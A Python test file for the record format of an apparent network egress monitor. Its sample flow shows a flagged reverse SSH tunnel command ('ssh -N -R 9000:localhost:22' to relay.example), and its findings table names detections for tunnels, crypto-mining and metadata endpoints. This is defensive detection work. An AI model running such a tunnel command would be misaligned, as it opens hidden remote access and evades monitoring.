"""The vocabulary: every contract field, JSON both ways, strict and forward-compatible reading."""

import dataclasses
import json

import pytest

from egress.records import (FINDINGS, Finding, FlowRecord, RecordError, Severity, TaskEvent,
                            format_time, parse_time, read_record, new_flow_id)
from egress.records import (DnsInfo, DnsQuery, HttpInfo, Nat, ProcessInfo, QuicInfo, SshInfo,
                            StratumInfo, TlsInfo)
from tests.factories import make_event, make_flow

DESIGN_EXAMPLE = {
    "schema": 1, "kind": "flow", "event": "final", "flow_id": "f-7Kq2mB9x",
    "task": "fix-1234", "mode": "audit", "community_id": "1:gh7OxDKG6JwrR5FOX0p1BLxeS6k=",
    "proto": "tcp", "ip_version": 4, "direction": "outbound",
    "src": "10.213.0.2", "sport": 51234, "dst": "203.0.113.10", "dport": 443,
    "nat": {"src": "192.0.2.7", "sport": 40112},
    "start": "2026-03-11T02:14:07.120000Z", "end": "2026-03-11T02:19:40.003000Z",
    "conn_state": "SF", "observed": "first-packets+watch",
    "app": "ssh", "server_name": "relay.example", "name_source": "dns",
    "tls": None, "http": None, "stratum": None, "dns": None, "quic": None,
    "ssh": {"client": "SSH-2.0-OpenSSH_9.2p1 Debian-2", "server": "SSH-2.0-OpenSSH_9.2p1",
            "hassh": "...", "hassh_server": "..."},
    "bytes_out": 18211, "bytes_in": 40960, "packets_out": 95, "packets_in": 88,
    "verdict": "flag", "decided_at": "watch", "action": "passed", "rule": None,
    "findings": [
        {"id": "ssh-egress", "severity": "high",
         "evidence": {"client_banner": "SSH-2.0-OpenSSH_9.2p1 Debian-2", "declared_for_ssh": []}},
        {"id": "reverse-ssh-tunnel", "severity": "critical",
         "evidence": {"source": "process", "cmdline_flag": "-R 9000:localhost:22",
                      "server_first_exchanges": 14, "keepalive_interval_s": 5}}],
    "process": {"pid": 4242, "ppid": 4200, "uid": 1001, "exe": "/usr/bin/ssh",
                "cmdline": "ssh -N -R 9000:localhost:22 agent@relay.example"}}


def test_design_example_parses_strictly_and_round_trips():
    flow = FlowRecord.from_json(DESIGN_EXAMPLE, strict=True)
    assert flow.findings[1].evidence.server_first_exchanges == 14
    out = flow.to_json()
    for key, value in DESIGN_EXAMPLE.items():
        if key != "findings":
            assert out[key] == value, key
    assert FlowRecord.from_json(json.loads(json.dumps(out)), strict=True) == flow


def test_every_contract_field_is_present():
    extensions = {"weird", "tunnel"}  # forward-compatible additions to DESIGN.md's record
    contract = set(DESIGN_EXAMPLE) - {"schema", "kind"}
    assert contract | extensions == {f.name for f in dataclasses.fields(FlowRecord)
                                     if not f.metadata.get("transient")}
    assert set(make_flow().to_json()) == set(DESIGN_EXAMPLE) | extensions


def test_every_sub_record_round_trips():
    flow = make_flow(
        nat=Nat(src="192.0.2.7", sport=1), tls=TlsInfo(sni="a", alpn=["h2"], ja3="x", ja4="y", ech=True),
        http=HttpInfo(method="GET", host="h"), ssh=SshInfo(client="c", server="s", hassh="1",
                                                           hassh_server="2"),
        stratum=StratumInfo(method="login", agent="xmrig"), quic=QuicInfo(version="0x00000001", sni="q"),
        dns=DnsInfo(queries=[DnsQuery(name="a.example", type="A", answers=["192.0.2.1"], ttl=5,
                                      rcode="NOERROR")]),
        process=ProcessInfo(pid=1, ppid=0, uid=0, exe="/bin/x", cmdline="x"),
        findings=[Finding.make(fid, FINDINGS[fid].evidence(**_sample_evidence(fid)))
                  for fid in sorted(FINDINGS)])
    assert FlowRecord.from_json(flow.to_json(), strict=True) == flow


def _sample_evidence(fid):
    cls = FINDINGS[fid].evidence
    values = {}
    for f in dataclasses.fields(cls):
        if f.default is dataclasses.MISSING and f.default_factory is dataclasses.MISSING:
            t = str(f.type)
            values[f.name] = (["x"] if "list" in t else 1 if t.startswith("int") else "x")
    return values


def test_unknown_keys_ignored_by_readers_refused_when_strict():
    data = dict(DESIGN_EXAMPLE, future_field=1)
    data["findings"] = [dict(DESIGN_EXAMPLE["findings"][0], evidence={
        "client_banner": "SSH-2.0-x", "declared_for_ssh": [], "new_evidence": 2})]
    assert FlowRecord.from_json(data).findings[0].evidence.client_banner == "SSH-2.0-x"
    with pytest.raises(RecordError, match="future_field"):
        FlowRecord.from_json(data, strict=True)
    del data["future_field"]
    with pytest.raises(RecordError, match="new_evidence"):
        FlowRecord.from_json(data, strict=True)


def test_unknown_finding_id_readable_but_not_strict():
    data = dict(DESIGN_EXAMPLE, findings=[{"id": "future-thing", "severity": "low",
                                          "evidence": {"a": 1}}])
    assert FlowRecord.from_json(data).findings[0].id == "future-thing"
    with pytest.raises(RecordError, match="unknown finding id"):
        FlowRecord.from_json(data, strict=True)


@pytest.mark.parametrize("field, value, message", [
    ("verdict", "maybe", "verdict"),
    ("sport", "80", "sport"),
    ("start", "2026-03-11 02:14:07", "start"),
    ("start", 12345, "start"),
    ("bytes_out", True, "bytes_out"),
    ("schema", 2, "schema"),
    ("kind", "flw", "kind"),
])
def test_bad_fields_name_the_field(field, value, message):
    with pytest.raises(RecordError, match=message):
        FlowRecord.from_json(dict(DESIGN_EXAMPLE, **{field: value}))


def test_missing_required_field():
    data = dict(DESIGN_EXAMPLE)
    del data["dst"]
    with pytest.raises(RecordError, match="dst: missing"):
        FlowRecord.from_json(data)


def test_severity_is_fixed_by_the_id():
    data = dict(DESIGN_EXAMPLE)
    data["findings"] = [dict(DESIGN_EXAMPLE["findings"][0], severity="low")]
    with pytest.raises(RecordError, match="ssh-egress is high"):
        FlowRecord.from_json(data)


def test_task_event_round_trip():
    ev = make_event("budget-exceeded", findings=[Finding.make(
        "budget-exceeded", limit="connections", allowed=2, total=3)])
    out = ev.to_json()
    assert out["kind"] == "task-event" and out["schema"] == 1
    assert set(out) == {"schema", "kind", "task", "time", "event", "findings"}
    assert read_record(out, strict=True) == ev


def test_times_are_utc_microseconds():
    us = parse_time("2026-03-11T02:14:07.120000Z")
    assert format_time(us) == "2026-03-11T02:14:07.120000Z"
    assert parse_time("2026-03-11T03:14:07.120000+01:00") == us
    with pytest.raises(RecordError, match="zone"):
        parse_time("2026-03-11T02:14:07")


def test_severity_order():
    ranks = [s.rank for s in (Severity.INFO, Severity.LOW, Severity.MEDIUM, Severity.HIGH,
                              Severity.CRITICAL)]
    assert ranks == sorted(ranks) and len(set(ranks)) == 5


def test_finding_table_matches_design():
    expected = {
        "undeclared-destination": "high", "protocol-mismatch": "high", "ssh-egress": "high",
        "reverse-ssh-tunnel": "critical", "mining-stratum": "critical",
        "mining-pool": "critical", "dns-tunnel": "high", "dns-refused": "high",
        "encrypted-dns": "high", "icmp-tunnel": "high", "direct-ip": "medium",
        "sni-mismatch": "high", "encrypted-client-hello": "high",
        "metadata-endpoint": "critical", "spend-endpoint": "high", "budget-exceeded": "high",
        "untagged": "high", "internal-error": "high", "events-lost": "medium"}
    assert {k: str(v.severity) for k, v in FINDINGS.items()} == expected


def test_flow_ids_are_unique_and_shaped():
    ids = {new_flow_id() for _ in range(2000)}
    assert len(ids) == 2000
    assert all(i.startswith("f-") and len(i) == 10 and i[2:].isalnum() for i in ids)


def test_checked_encoding_is_the_encoding_and_refuses_what_reading_refuses():
    flow = FlowRecord.from_json(DESIGN_EXAMPLE, strict=True)
    assert flow.to_checked_json() == flow.to_json()
    for field, value in [("verdict", "maybe"), ("sport", "80"), ("start", 1.5),
                         ("bytes_out", True), ("dport", 70000), ("ip_version", 5),
                         ("tls", "not a sub-record")]:
        bad = dataclasses.replace(flow, **{field: value})
        with pytest.raises(RecordError, match=field):
            bad.to_checked_json()
        try:
            obj = bad.to_json()
        except (TypeError, ValueError):
            continue                       # not even encodable: nothing to read back
        with pytest.raises(RecordError):
            FlowRecord.from_json(obj, strict=True)
    wrong = dataclasses.replace(flow, findings=[Finding(id="ssh-egress", severity=Severity.LOW,
                                                        evidence={})])
    with pytest.raises(RecordError, match="severity"):
        wrong.to_checked_json()
